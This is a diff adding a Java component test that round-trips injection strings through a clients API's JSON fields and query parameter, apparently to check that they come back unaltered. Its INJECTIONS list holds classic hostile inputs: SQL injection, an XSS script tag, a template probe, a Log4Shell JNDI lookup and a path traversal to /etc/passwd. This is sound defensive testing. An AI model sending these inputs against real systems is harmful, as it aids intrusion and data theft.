@@ -285,6 +285,30 @@ class SecuritySuiteComponentTest {
                 .statusCode(201).body("body", equalTo(body));
     }
 
+    @Test
+    void eachInjectionStringRoundTripsVerbatimInEveryTextFieldAndQuery() {
+        var tenant = tenant("clients:read", "clients:write");
+        String client = UUID.randomUUID().toString();
+        for (String attack : INJECTIONS) {
+            String body = new io.vertx.core.json.JsonObject().put("name", attack).put("notes", attack)
+                    .put("contacts", new io.vertx.core.json.JsonArray().add(new io.vertx.core.json.JsonObject()
+                            .put("name", attack).put("title", attack).put("email", attack))).encode();
+            for (String method : List.of("POST", "PATCH")) {
+                String path = method.equals("POST") ? "/api/v1/clients" : "/api/v1/clients/" + client;
+                tenant.asKey().contentType("application/json; charset=UTF-8").body(body).request(method, path).then()
+                        .statusCode(201).contentType("application/json").body("body", equalTo(body))
+                        .body("method", equalTo(method));
+            }
+            String uri = tenant.asKey().queryParam("q", attack).get("/api/v1/clients").then().statusCode(201)
+                    .extract().path("uri");
+            assertThat(java.net.URLDecoder.decode(uri.substring(uri.indexOf("q=") + 2), java.nio.charset.StandardCharsets.UTF_8))
+                    .isEqualTo(attack);
+        }
+    }
+
+    static final List<String> INJECTIONS = List.of("' OR 1=1 --", "<script>alert(1)</script>", "{{7*7}}",
+            "${jndi:ldap://x/a}", "../../etc/passwd", "\u202E");
+
     // #19
 
     @Test
